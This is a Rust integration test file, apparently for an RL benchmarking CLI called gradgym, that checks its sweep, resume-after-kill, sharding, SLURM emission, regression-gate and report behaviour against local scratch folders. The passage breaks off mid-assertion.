//! `gradgym sweep`, `report`, `plot` and `compare` end to end: determinism across job counts,
//! resuming after kill -9, failed runs, shards, the regression gate, reproducible plots.

mod common;

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use common::{gradgym, text, without};

fn scratch(name: &str) -> common::Scratch {
    common::scratch("cli-sweep", name)
}

/// Six short runs: three algos on CartPole, PPO on Pendulum (two seeds), a grid value.
const SWEEP: &str = r#"
seeds = [1, 2]
config = { total_timesteps = 6144, eval_episodes = 2 }

[[runs]]
envs = ["CartPole-v1"]
algos = ["ppo", "reinforce"]

[[runs]]
envs = ["Pendulum-v1"]
algos = ["ppo"]
config = { num_steps = 256, num_minibatches = 4 }
grid = { learning_rate = [0.001] }
"#;

/// Three tiny A2C runs on CartPole.
const A2C_THREE_SEEDS: &str = r#"
seeds = [1, 2, 3]
config = { total_timesteps = 1024, eval_episodes = 1 }
[[runs]]
envs = ["CartPole-v1"]
algos = ["a2c"]
"#;

/// Copies the contents of folder `from` into folder `to`, made if missing.
fn copy_into(from: &Path, to: &Path) {
    fs::create_dir_all(to).unwrap();
    let ok = Command::new("cp")
        .args(["-r", &format!("{}/.", from.display()), to.to_str().unwrap()])
        .status()
        .unwrap();
    assert!(ok.success());
}

/// `<name>.toml` holding `contents`, in a scratch folder of its own (not the sweep's).
fn write_sweep(name: &str, contents: &str) -> common::Scratch {
    let path = common::scratch("cli-sweep-file", &format!("{name}.toml"));
    fs::write(&path, contents).unwrap();
    path
}

fn sweep(file: &Path, out: &Path, extra: &[&str]) -> std::process::Output {
    let mut args = vec![
        "sweep",
        file.to_str().unwrap(),
        "--out",
        out.to_str().unwrap(),
    ];
    args.extend_from_slice(extra);
    gradgym(&args)
}

/// summary.csv and every run's metrics.csv, timing columns aside, by run id.
fn results(out: &Path) -> Vec<(String, String)> {
    let mut v = vec![(
        "summary.csv".to_string(),
        without(&out.join("summary.csv"), &["wall_seconds"]),
    )];
    let mut runs: Vec<PathBuf> = fs::read_dir(out.join("runs"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    runs.sort();
    for run in runs {
        let name = run.file_name().unwrap().to_string_lossy().into_owned();
        v.push((
            name.clone() + "/metrics.csv",
            without(&run.join("metrics.csv"), &["SPS", "wall_seconds"]),
        ));
        v.push((
            name + "/config.toml",
            fs::read_to_string(run.join("config.toml")).unwrap(),
        ));
    }
    v
}

#[test]
fn jobs_1_and_2_agree_kill_9_resumes_to_the_same_results_and_reruns_are_no_ops() {
    let file = write_sweep("grid", SWEEP);
    let one = scratch("jobs1");
    let o = sweep(&file, &one, &["--jobs", "1"]);
    assert!(o.status.success(), "{}", text(&o));
    let reference = results(&one);
    assert_eq!(reference.len(), 1 + 2 * 6, "six runs");
    let summary = fs::read_to_string(one.join("summary.csv")).unwrap();
    assert_eq!(summary.lines().count(), 7, "{summary}");
    assert!(
        summary.starts_with("run_id,env_id,algo,seed,learning_rate,status,"),
        "{summary}"
    );
    assert!(summary.contains(
        "Pendulum-v1__ppo__learning_rate=0.001__seed2,Pendulum-v1,ppo,2,0.001,completed,"
    ));

    let two = scratch("jobs2");
    let o = sweep(&file, &two, &["--jobs", "2"]);
    assert!(o.status.success(), "{}", text(&o));
    assert_eq!(results(&two), reference, "--jobs 2 differs from --jobs 1");

    // A second run of the same command finds everything done and changes nothing.
    let before = fs::read(one.join("summary.csv")).unwrap();
    let o = sweep(&file, &one, &["--jobs", "2"]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(text(&o).contains("6 already finished"), "{}", text(&o));
    assert_eq!(fs::read(one.join("summary.csv")).unwrap(), before);

    // kill -9 while a run is half done and at least one is finished.
    let killed = scratch("killed");
    let mut child = Command::new(env!("CARGO_BIN_EXE_gradgym"))
        .args([
            "sweep",
            file.to_str().unwrap(),
            "--jobs",
            "1",
            "--quiet",
            "--out",
        ])
        .arg(&killed)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let start = Instant::now();
    let runs_dir = killed.join("runs");
    let state = || -> (usize, usize) {
        let names: Vec<String> = fs::read_dir(&runs_dir)
            .map(|d| {
                d.map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
                    .collect()
            })
            .unwrap_or_default();
        let partial = names.iter().filter(|n| n.ends_with(".partial")).count();
        (names.len() - partial, partial)
    };
    loop {
        let (done, partial) = state();
        if done >= 1 && partial == 1 {
            let metrics = fs::read_dir(&runs_dir)
                .unwrap()
                .map(|e| e.unwrap().path())
                .find(|p| p.extension().is_some_and(|e| e == "partial"))
                .map(|p| p.join("metrics.csv"));
            if metrics.is_some_and(|m| fs::read_to_string(m).is_ok_and(|t| t.lines().count() >= 2))
            {
                break;
            }
        }
        assert!(
            start.elapsed() < Duration::from_secs(120),
            "the sweep never reached a half-done run"
        );
        if child.try_wait().unwrap().is_some() {
            panic!("the sweep finished before it could be interrupted; make the runs longer");
        }
        std::thread::sleep(Duration::from_millis(5));
    }
    child.kill().unwrap(); // SIGKILL
    child.wait().unwrap();
    // (A run may have been sealed between the last look and the kill.)
    let (done, partial) = state();
    assert!(
        done >= 1 && partial <= 1 && done < 6,
        "{done} done, {partial} partial"
    );
    let o = sweep(&file, &killed, &["--jobs", "2"]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(
        text(&o).contains(&format!("{done} already finished")),
        "{}",
        text(&o)
    );
    assert_eq!(results(&killed), reference, "the resumed sweep differs");
    let manifest: serde_json::Value =
        serde_json::from_str(&fs::read_to_string(killed.join("manifest.json")).unwrap()).unwrap();
    assert_eq!(manifest["sessions"], 2);
    assert!(manifest["finished"].is_string());
    assert_eq!(manifest["runs_in_grid"], 6);

    // Report and plot read the folder; the same inputs give the same files.
    let o = gradgym(&["report", one.to_str().unwrap(), "--reps", "500"]);
    assert!(o.status.success(), "{}", text(&o));
    let md = fs::read_to_string(one.join("report/report.md")).unwrap();
    assert!(md.contains("| CartPole-v1 | ppo | 2 |"), "{md}");
    assert!(md.contains("ppo[learning_rate=0.001]"), "{md}");
    for f in [
        "per_env.csv",
        "aggregate.csv",
        "improvement.csv",
        "profiles.csv",
    ] {
        assert!(one.join("report").join(f).is_file(), "{f}");
    }
    let plots = |dir: &Path| -> Vec<(String, Vec<u8>)> {
        let o = gradgym(&[
            "plot",
            one.to_str().unwrap(),
            "--reps",
            "200",
            "--out",
            dir.to_str().unwrap(),
        ]);
        assert!(o.status.success(), "{}", text(&o));
        let mut v: Vec<(String, Vec<u8>)> = fs::read_dir(dir)
            .unwrap()
            .map(|e| {
                let p = e.unwrap().path();
                (
                    p.file_name().unwrap().to_string_lossy().into_owned(),
                    fs::read(&p).unwrap(),
                )
            })
            .collect();
        v.sort();
        v
    };
    let first = plots(&scratch("plots-a"));
    let names: Vec<&str> = first.iter().map(|(n, _)| n.as_str()).collect();
    for figure in ["learning_curves", "final_scores", "intervals", "profiles"] {
        for ext in ["png", "svg"] {
            assert!(
                names.contains(&format!("{figure}.{ext}").as_str()),
                "{names:?}"
            );
        }
    }
    assert!(first.iter().all(|(_, bytes)| bytes.len() > 1000));
    assert_eq!(
        first,
        plots(&scratch("plots-b")),
        "plots are not reproducible"
    );
}

#[test]
fn a_failed_run_is_recorded_and_the_sweep_goes_on() {
    let file = write_sweep(
        "failing",
        r#"
seeds = [1]
config = { total_timesteps = 2048, anneal_lr = false, eval_episodes = 1 }
[[runs]]
envs = ["CartPole-v1"]
algos = ["a2c"]
grid = { learning_rate = [1e30, 1e-3] }
"#,
    );
    let out = scratch("failing");
    let o = sweep(&file, &out, &[]);
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    let summary = fs::read_to_string(out.join("summary.csv")).unwrap();
    let rows: Vec<&str> = summary.lines().skip(1).collect();
    assert_eq!(rows.len(), 2, "{summary}");
    assert!(
        rows[0].contains(",failed,") && rows[0].contains("non-finite loss"),
        "{summary}"
    );
    assert!(rows[1].contains(",completed,"), "{summary}");
    // The report lists it and scores the rest.
    let o = gradgym(&["report", out.to_str().unwrap(), "--reps", "100"]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(text(&o).contains("## Failed runs"), "{}", text(&o));

    // A rerun skips both finished runs but still reports the failure in its exit code.
    let o = sweep(&file, &out, &[]);
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    assert!(
        text(&o)
            .contains("0 failed + 1 failed in earlier sessions (rerun them with --retry-failed)"),
        "{}",
        text(&o)
    );
    // A run folder to redo (sealed `interrupted`, or failed under --retry-failed) is removed
    // only once every finished run has passed its checks: a refusal for a later run keeps it
    // (it was removed first, then the sweep refused, redoing nothing).
    let run_of = |status: &str| {
        fs::read_dir(out.join("runs"))
            .unwrap()
            .map(|e| e.unwrap().path())
            .find(|p| common::summary(p)["status"] == status)
            .unwrap()
    };
    // The grid plans learning_rate = 1e30 (the failed run) first.
    let (first, second) = (run_of("failed"), run_of("completed"));
    let (summary_text, config) = (
        fs::read_to_string(first.join("summary.json")).unwrap(),
        fs::read_to_string(second.join("config.toml")).unwrap(),
    );
    assert!(config.contains("gamma = 0.99\n"));
    fs::write(
        second.join("config.toml"),
        config.replace("gamma = 0.99\n", "gamma = 0.98\n"),
    )
    .unwrap();
    for (status, flags) in [
        ("failed", &["--retry-failed"][..]),
        ("interrupted", &[][..]),
    ] {
        let mut sealed: serde_json::Value = serde_json::from_str(&summary_text).unwrap();
        sealed["status"] = status.into();
        fs::write(first.join("summary.json"), sealed.to_string()).unwrap();
        let o = sweep(&file, &out, flags);
        assert_eq!(o.status.code(), Some(2), "{}", text(&o));
        assert!(text(&o).contains("different config"), "{}", text(&o));
        assert_eq!(
            common::summary(&first)["status"],
            status,
            "{status} removed"
        );
    }
    fs::write(first.join("summary.json"), &summary_text).unwrap();
    fs::write(second.join("config.toml"), &config).unwrap();
    // A run folder sealed `interrupted` (a `train --out` into runs/, an older gradgym's sweep)
    // is redone, not counted with the failures.
    let done = fs::read_dir(out.join("runs"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .find(|p| common::summary(p)["status"] == "completed")
        .unwrap();
    let mut stopped = common::summary(&done);
    stopped["status"] = "interrupted".into();
    fs::write(done.join("summary.json"), stopped.to_string()).unwrap();
    let o = sweep(&file, &out, &[]);
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    assert!(
        text(&o).contains(&format!("{} was interrupted; redoing it", done.display()))
            && text(&o)
                .contains("(1 already done, 1 completed now, 0 failed + 1 failed in earlier"),
        "{}",
        text(&o)
    );
    assert_eq!(common::summary(&done)["status"], "completed");
    // --retry-failed reruns it (and it fails again, deterministically); the completed run stays.
    let o = sweep(&file, &out, &["--retry-failed"]);
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    assert!(
        text(&o).contains("(1 already done, 0 completed now, 1 failed)"),
        "{}",
        text(&o)
    );
}

#[test]
fn shards_cover_the_grid_and_report_reads_their_union() {
    let file = write_sweep("sharded", A2C_THREE_SEEDS);
    let whole = scratch("whole");
    assert!(sweep(&file, &whole, &[]).status.success());
    let parent = scratch("shards");
    for i in 1..=2 {
        let o = sweep(
            &file,
            &parent.join(format!("shard-{i}")),
            &["--shard", &format!("{i}/2")],
        );
        assert!(o.status.success(), "{}", text(&o));
    }
    let ids = |p: &Path| -> Vec<String> {
        let mut v: Vec<String> = fs::read_dir(p.join("runs"))
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        v.sort();
        v
    };
    assert_eq!(ids(&parent.join("shard-1")).len(), 2);
    assert_eq!(
        ids(&parent.join("shard-2")),
        vec!["CartPole-v1__a2c__seed2"]
    );
    for dir in [&whole, &parent] {
        let o = gradgym(&["report", dir.to_str().unwrap(), "--reps", "300"]);
        assert!(o.status.success(), "{}", text(&o));
    }
    assert_eq!(
        fs::read_to_string(whole.join("report/per_env.csv")).unwrap(),
        fs::read_to_string(parent.join("report/per_env.csv")).unwrap()
    );
    // A shard missing from the folders given is named (the pooled report used to pass over
    // it), and not when all are there.
    let away = scratch("shard-2-away");
    fs::rename(parent.join("shard-2"), &away).unwrap();
    for command in ["report", "compare"] {
        let o = if command == "report" {
            gradgym(&["report", parent.to_str().unwrap(), "--reps", "300"])
        } else {
            gradgym(&["compare", whole.to_str().unwrap(), parent.to_str().unwrap()])
        };
        assert!(
            text(&o).contains("is incomplete: shard(s) 2/2 of its 2 are not in the folders given"),
            "{command}: {}",
            text(&o)
        );
    }
    fs::rename(&away, parent.join("shard-2")).unwrap();
    let o = gradgym(&["report", parent.to_str().unwrap(), "--reps", "300"]);
    assert!(!text(&o).contains("incomplete"), "{}", text(&o));
    // A shard into another shard's folder is refused (its summary.csv used to replace that
    // shard's, leaving its runs out unseen).
    let o = sweep(&file, &parent.join("shard-1"), &["--shard", "2/2"]);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(
        text(&o).contains("holds shard 1/2 of a sweep, and this is shard 2/2"),
        "{}",
        text(&o)
    );

    let o = gradgym(&[
        "sweep",
        file.to_str().unwrap(),
        "--emit-slurm",
        "--shards",
        "0",
    ]);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(
        text(&o).contains("--shards must be at least 1"),
        "{}",
        text(&o)
    );
    // A GPU cluster's script is written on a login node without one (for `--device cuda` and
    // for a config's own CUDA device), and --retry-failed is passed on to the tasks.
    let logs = scratch("slurm-logs");
    let emit = |file: &Path, extra: &[&str]| {
        let mut all = vec!["sweep", file.to_str().unwrap(), "--emit-slurm"];
        all.extend(extra);
        all.extend(["--out", logs.to_str().unwrap()]);
        let o = gradgym(&all);
        assert!(o.status.success(), "{extra:?}: {}", text(&o));
        String::from_utf8_lossy(&o.stdout).into_owned()
    };
    let with = |name: &str, setting: &str| {
        write_sweep(
            name,
            &A2C_THREE_SEEDS.replace(
                "eval_episodes = 1",
                &format!("eval_episodes = 1, {setting}"),
            ),
        )
    };
    let script = emit(&file, &["--device", "cuda"]);
    assert!(script.contains("#SBATCH --gres=gpu:1"), "{script}");
    let script = emit(&with("slurm-gpu", "device = \"cuda\""), &["--retry-failed"]);
    assert!(script.contains(" --retry-failed"), "{script}");
    // A flag's fault is named as the flag's; flags of the other mode are refused rather than
    // ignored; the runs are checked as for the cluster (native runs on the CPU only).
    let zero = write_sweep(
        "slurm-zero",
        &format!("{A2C_THREE_SEEDS}\n[slurm]\ncpus_per_task = 0\n"),
    );
    let native = with("slurm-native", "backend = \"native\"");
    for (sweep_file, args, says) in [
        (
            &file,
            vec!["--device", "tpu"],
            "--device tpu: unknown device `tpu`",
        ),
        (
            &file,
            vec!["--shards", "3"],
            "--shards and --slurm-* are read with --emit-slurm only",
        ),
        (
            &file,
            vec!["--emit-slurm", "--shard", "1/2"],
            "--shard is not read with --emit-slurm",
        ),
        (
            &file,
            vec!["--emit-slurm", "--jobs", "3"],
            "--jobs is not read with --emit-slurm",
        ),
        (
            &native,
            vec!["--emit-slurm", "--device", "cuda"],
            "`native` runs on the CPU only",
        ),
        (
            &zero,
            vec!["--emit-slurm"],
            "[slurm] cpus_per_task must be at least 1",
        ),
    ] {
        let mut all = vec!["sweep", sweep_file.to_str().unwrap()];
        all.extend(&args);
        let o = gradgym(&all);
        assert_eq!(o.status.code(), Some(2), "{args:?}: {}", text(&o));
        assert!(text(&o).contains(says), "{args:?}: {}", text(&o));
    }
}

#[test]
fn compare_passes_a_copy_and_fails_a_worse_candidate() {
    let file = write_sweep("gate", A2C_THREE_SEEDS);
    let base = scratch("base");
    assert!(sweep(&file, &base, &[]).status.success());
    let o = gradgym(&["compare", base.to_str().unwrap(), base.to_str().unwrap()]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(text(&o).contains("no regression"), "{}", text(&o));
    assert!(!text(&o).contains("configured otherwise"), "{}", text(&o));
    // A candidate run with another config is named with the fields that differ (the gate
    // compared them as if only the code had changed).
    let tuned = write_sweep(
        "gate-tuned",
        &A2C_THREE_SEEDS.replace(
            "eval_episodes = 1",
            "eval_episodes = 1, learning_rate = 0.001",
        ),
    );
    let other = scratch("tuned");
    assert!(sweep(&tuned, &other, &[]).status.success());
    let o = gradgym(&["compare", base.to_str().unwrap(), other.to_str().unwrap()]);
    assert!(
        String::from_utf8_lossy(&o.stderr).contains(
            "CartPole-v1 a2c: the candidate's runs were configured otherwise than the baseline's (learning_rate 0.0007 → 0.001)"
        ),
        "{}",
        text(&o)
    );
    // An option set on one side only is named too (it was skipped, as a field an older
    // version did not write would be: those are read as their defaults now); a setting that
    // changes nothing a run computes is not.
    let optioned = scratch("optioned");
    copy_into(&base, &optioned);
    for entry in fs::read_dir(optioned.join("runs")).unwrap() {
        let config = entry.unwrap().path().join("config.toml");
        let text = fs::read_to_string(&config).unwrap();
        let changed = text.replace("checkpoint_every = 0\n", "checkpoint_every = 3\n");
        assert_ne!(changed, text);
        fs::write(&config, changed + "target_kl = 0.01\n").unwrap();
    }
    let o = gradgym(&[
        "compare",
        base.to_str().unwrap(),
        optioned.to_str().unwrap(),
    ]);
    let said = String::from_utf8_lossy(&o.stderr).into_owned();
    assert!(
        said.contains("(target_kl unset → 0.01)") && !said.contains("checkpoint_every"),
        "{}",
        text(&o)
    );
    // A config.toml that cannot be read is said, not passed over.
    let config = optioned.join("runs/CartPole-v1__a2c__seed1/config.toml");
    let text_before = fs::read_to_string(&config).unwrap();
    fs::write(&config, text_before.clone() + "seed = 9\n").unwrap();
    let o = gradgym(&[
        "compare",
        base.to_str().unwrap(),
        optioned.to_str().unwrap(),
    ]);
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("this run's config is not compared"),
        "{}",
        text(&o)
    );

    // A candidate whose every run scores 5 lower: the whole interval is below zero.
    let cand = scratch("cand");
    fs::create_dir_all(&cand).unwrap();
    let summary = fs::read_to_string(base.join("summary.csv")).unwrap();
    let mut lines = summary.lines();
    let header = lines.next().unwrap();
    let col = header
        .split(',')
        .position(|h| h == "final_return_mean_last100")
        .unwrap();
    let mut worse = vec![header.to_string()];
    for l in lines {
        let mut f: Vec<String> = l.split(',').map(String::from).collect();
        f[col] = (f[col].parse::<f64>().unwrap() - 5.0).to_string();
        worse.push(f.join(","));
    }
    fs::write(cand.join("summary.csv"), worse.join("\n") + "\n").unwrap();
    let o = gradgym(&["compare", base.to_str().unwrap(), cand.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    assert!(text(&o).contains("REGRESSION"), "{}", text(&o));
    // A candidate whose runs finished without a score (no episode ended): a regression, not
    // a pass.
    let blank = scratch("blank");
    fs::create_dir_all(&blank).unwrap();
    let mut empty = vec![header.to_string()];
    for l in summary.lines().skip(1) {
        let mut f: Vec<&str> = l.split(',').collect();
        f[col] = "";
        empty.push(f.join(","));
    }
    fs::write(blank.join("summary.csv"), empty.join("\n") + "\n").unwrap();
    let o = gradgym(&["compare", base.to_str().unwrap(), blank.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    assert!(
        text(&o).contains("REGRESSION: no final_return_mean_last100 score in the candidate's runs"),
        "{}",
        text(&o)
    );
    // ... which a tolerance of 0.05 normalised (≈ 23 return on CartPole) accepts.
    let o = gradgym(&[
        "compare",
        base.to_str().unwrap(),
        cand.to_str().unwrap(),
        "--tolerance",
        "0.05",
    ]);
    assert!(o.status.success(), "{}", text(&o));
    // A gate cannot be switched off by a typo: NaN, ∞ or a negative tolerance is refused.
    for bad in ["nan", "inf", "-1", "-0.5"] {
        let o = gradgym(&[
            "compare",
            base.to_str().unwrap(),
            cand.to_str().unwrap(),
            "--tolerance",
            bad,
        ]);
        assert_eq!(o.status.code(), Some(2), "--tolerance {bad}: {}", text(&o));
        assert!(
            text(&o).contains("--tolerance must be a finite number"),
            "{}",
            text(&o)
        );
    }
    // Zero bootstrap replicates give no interval at all.
    for command in ["report", "plot"] {
        let o = gradgym(&[command, base.to_str().unwrap(), "--reps", "0"]);
        assert_eq!(o.status.code(), Some(2), "{command}: {}", text(&o));
        assert!(
            text(&o).contains("--reps must be at least 1"),
            "{}",
            text(&o)
        );
        // Too many to hold (before: an abort, exit 134).
        let o = gradgym(&[command, base.to_str().unwrap(), "--reps", "100000000000"]);
        assert_eq!(o.status.code(), Some(2), "{command}: {}", text(&o));
        assert!(
            text(&o).contains("more bootstrap replicates than gradgym allows"),
            "{}",
            text(&o)
        );
    }

    // A truncated summary.csv is named with its line.
    let broken = scratch("broken");
    fs::create_dir_all(&broken).unwrap();
    let cut = &summary[..summary.len() - 10];
    fs::write(broken.join("summary.csv"), cut).unwrap();
    let o = gradgym(&["compare", base.to_str().unwrap(), broken.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(text(&o).contains("summary.csv:4"), "{}", text(&o));
}

#[test]
fn bad_sweeps_are_refused_and_finished_runs_are_kept() {
    let out = scratch("bad");
    let file = write_sweep(
        "bad",
        "seeds = [1]\n[[runs]]\nenvs = [\"CartPole-v2\"]\nalgos = [\"ppo\"]\n",
    );
    let o = sweep(&file, &out, &[]);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(
        text(&o).contains("[[runs]] #1") && text(&o).contains("CartPole-v2"),
        "{}",
        text(&o)
    );
    assert!(!out.exists(), "nothing is written for a bad sweep file");

    // Changing the sweep file under a folder with finished runs is refused, not overwritten.
    let file = write_sweep(
        "changed",
        "seeds = [1]\nconfig = { total_timesteps = 512, eval_episodes = 1 }\n[[runs]]\nenvs = [\"CartPole-v1\"]\nalgos = [\"a2c\"]\n",
    );
    assert!(sweep(&file, &out, &[]).status.success());
    let before = fs::read_to_string(out.join("summary.csv")).unwrap();
    fs::write(
        &file,
        "seeds = [1]\nconfig = { total_timesteps = 1024, eval_episodes = 1 }\n[[runs]]\nenvs = [\"CartPole-v1\"]\nalgos = [\"a2c\"]\n",
    )
    .unwrap();
    let o = sweep(&file, &out, &[]);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(
        text(&o).contains("different config")
            && text(&o).contains("(field `total_timesteps`: 512 there, 1024 now)"),
        "{}",
        text(&o)
    );
    assert_eq!(fs::read_to_string(out.join("summary.csv")).unwrap(), before);

    // Another sweep (here another algo) into that folder is refused: its summary.csv and
    // manifest used to replace these, leaving the finished run out unseen.
    fs::write(
        &file,
        "seeds = [1]\nconfig = { total_timesteps = 512, eval_episodes = 1 }\n[[runs]]\nenvs = [\"CartPole-v1\"]\nalgos = [\"reinforce\"]\n",
    )
    .unwrap();
    let manifest = fs::read_to_string(out.join("manifest.json")).unwrap();
    let o = sweep(&file, &out, &[]);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(
        text(&o)
            .contains("holds 1 run(s) and none that this sweep plans (CartPole-v1__a2c__seed1)"),
        "{}",
        text(&o)
    );
    assert_eq!(fs::read_to_string(out.join("summary.csv")).unwrap(), before);
    assert_eq!(
        fs::read_to_string(out.join("manifest.json")).unwrap(),
        manifest
    );
    // Adding a seed to the sweep file and rerunning it into its folder extends it.
    fs::write(
        &file,
        "seeds = [1, 2]\nconfig = { total_timesteps = 512, eval_episodes = 1 }\n[[runs]]\nenvs = [\"CartPole-v1\"]\nalgos = [\"a2c\"]\n",
    )
    .unwrap();
    let o = sweep(&file, &out, &[]);
    assert!(o.status.success(), "{}", text(&o));
    assert_eq!(
        fs::read_to_string(out.join("summary.csv"))
            .unwrap()
            .lines()
            .count(),
        3
    );
    // A manifest that is not JSON is refused, not replaced: it holds the sweep's history
    // (with summary.csv moved away it used to be replaced without a word).
    let manifest = fs::read_to_string(out.join("manifest.json")).unwrap();
    fs::rename(out.join("summary.csv"), out.join("summary.csv.away")).unwrap();
    // So is one that names a sweep but lost a field (its history was reset without a word).
    let mut cut: serde_json::Value = serde_json::from_str(&manifest).unwrap();
    cut.as_object_mut().unwrap().remove("tch_version").unwrap();
    for (bytes, says) in [
        (b"garbage".to_vec(), "its manifest.json is not JSON"),
        (b"\xff\xfe{}".to_vec(), "its manifest.json is not JSON"),
        (
            cut.to_string().into_bytes(),
            "its manifest.json names a sweep but cannot be read as a sweep's manifest (missing field `tch_version`)",
        ),
    ] {
        fs::write(out.join("manifest.json"), &bytes).unwrap();
        let o = sweep(&file, &out, &[]);
        assert_eq!(o.status.code(), Some(2), "{}", text(&o));
        assert!(text(&o).contains(says), "{}", text(&o));
        assert_eq!(fs::read(out.join("manifest.json")).unwrap(), bytes);
    }
    fs::write(out.join("manifest.json"), &manifest).unwrap();
    fs::rename(out.join("summary.csv.away"), out.join("summary.csv")).unwrap();
    // Another sweep's results kept without their runs/ are known by the manifest's name: a
    // sweep of another name into them is refused, and so is one into a folder whose
    // summary.csv no sweep manifest describes (both used to be replaced without a word).
    let other = write_sweep(
        "other",
        "seeds = [1]\nconfig = { total_timesteps = 512, eval_episodes = 1 }\n[[runs]]\nenvs = [\"CartPole-v1\"]\nalgos = [\"a2c\"]\n",
    );
    let kept = out.with_file_name(format!(
        "{}-kept",
        out.file_name().unwrap().to_string_lossy()
    ));
    fs::create_dir_all(&kept).unwrap();
    for f in ["summary.csv", "manifest.json"] {
        fs::copy(out.join(f), kept.join(f)).unwrap();
    }
    let kept_summary = fs::read_to_string(kept.join("summary.csv")).unwrap();
    let o = sweep(&other, &kept, &[]);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(
        text(&o).contains("holds the results of sweep `")
            && text(&o).contains("changed` (its manifest.json)")
            && text(&o).contains("other`: its summary.csv and manifest would be replaced"),
        "{}",
        text(&o)
    );
    assert_eq!(
        fs::read_to_string(kept.join("summary.csv")).unwrap(),
        kept_summary
    );
    assert!(!kept.join("runs").exists());
    fs::remove_file(kept.join("manifest.json")).unwrap();
    fs::write(kept.join("summary.csv"), "a,b\n1,2\n").unwrap();
    let o = sweep(&other, &kept, &[]);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(
        text(&o).contains("holds a summary.csv that no sweep manifest.json describes"),
        "{}",
        text(&o)
    );
    assert_eq!(
        fs::read_to_string(kept.join("summary.csv")).unwrap(),
        "a,b\n1,2\n"
    );
    fs::remove_dir_all(&kept).unwrap();
    // `train --overwrite` onto the sweep's folder is refused (it used to delete every run).
    let o = gradgym(&[
        "train",
        "--env",
        "CartPole-v1",
        "--total-timesteps",
        "1024",
        "--out",
        out.to_str().unwrap(),
        "--overwrite",
    ]);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(
        text(&o).contains("is a sweep's results folder"),
        "{}",
        text(&o)
    );
    assert!(
        out.join("runs/CartPole-v1__a2c__seed1/summary.json")
            .is_file()
    );
    // And a sweep into a train run's folder is refused, leaving its manifest alone.
    let run = scratch("bad-run");
    let o = gradgym(&[
        "train",
        "--env",
        "CartPole-v1",
        "--total-timesteps",
        "1024",
        "--out",
        run.to_str().unwrap(),
    ]);
    assert!(o.status.success(), "{}", text(&o));
    let manifest = fs::read_to_string(run.join("manifest.json")).unwrap();
    let o = sweep(&file, &run, &[]);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(text(&o).contains("a run's folder"), "{}", text(&o));
    assert_eq!(
        fs::read_to_string(run.join("manifest.json")).unwrap(),
        manifest
    );
    assert!(!run.join("runs").exists());
}

#[test]
fn estimator_study_plots_come_from_its_csv() {
    let study = scratch("study");
    let o = gradgym(&[
        "estimators",
        "--seed",
        "0",
        "--out",
        study.to_str().unwrap(),
    ]);
    assert!(o.status.success(), "{}", text(&o));
    let o = gradgym(&["plot", study.to_str().unwrap()]);
    assert!(o.status.success(), "{}", text(&o));
    for f in ["estimator_variance", "estimator_bias"] {
        for ext in ["png", "svg"] {
            let p = study.join("plots").join(format!("{f}.{ext}"));
            assert!(
                fs::metadata(&p).is_ok_and(|m| m.len() > 1000),
                "{}",
                p.display()
            );
        }
    }
}

#[test]
fn reports_say_what_they_leave_out() {
    let file = write_sweep("honest", A2C_THREE_SEEDS);
    let out = scratch("honest");
    assert!(sweep(&file, &out, &[]).status.success());
    let report = |dir: &Path| gradgym(&["report", dir.to_str().unwrap(), "--reps", "200"]);

    // Three seeds per cell: the report says the intervals rest on too few runs.
    let o = report(&out);
    assert!(o.status.success(), "{}", text(&o));
    assert!(
        text(&o).contains("1 of 1 cells rest on fewer than 5 completed runs"),
        "{}",
        text(&o)
    );

    // A NaN in one run's metrics.csv is named by file, line and column; the plot of the
    // others is still drawn.
    let victim = out.join("runs/CartPole-v1__a2c__seed2/metrics.csv");
    let csv = fs::read_to_string(&victim).unwrap();
    let header = csv.lines().next().unwrap();
    let col = header
        .split(',')
        .position(|h| h == "episodic_return")
        .unwrap();
    let mut lines: Vec<String> = csv.lines().map(String::from).collect();
    let mut cells: Vec<String> = lines[3].split(',').map(String::from).collect();
    cells[col] = "NaN".into();
    lines[3] = cells.join(",");
    fs::write(&victim, lines.join("\n") + "\n").unwrap();
    let o = report(&out);
    assert!(o.status.success(), "{}", text(&o));
    assert!(
        text(&o).contains("metrics.csv:4: column `episodic_return` is not a finite number: `NaN`"),
        "{}",
        text(&o)
    );
    let o = gradgym(&["plot", out.to_str().unwrap(), "--reps", "200"]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(
        text(&o).contains("CartPole-v1__a2c__seed2 is left out of learning_curves"),
        "{}",
        text(&o)
    );
    assert!(out.join("plots/learning_curves.png").is_file());

    // A sweep that lost a run is named as incomplete, and compare says which seed is missing.
    let cut = scratch("honest-cut");
    fs::create_dir_all(&cut).unwrap();
    fs::copy(out.join("manifest.json"), cut.join("manifest.json")).unwrap();
    let summary = fs::read_to_string(out.join("summary.csv")).unwrap();
    let kept: Vec<&str> = summary.lines().filter(|l| !l.contains("seed3")).collect();
    fs::write(cut.join("summary.csv"), kept.join("\n") + "\n").unwrap();
    let o = report(&cut);
    assert!(
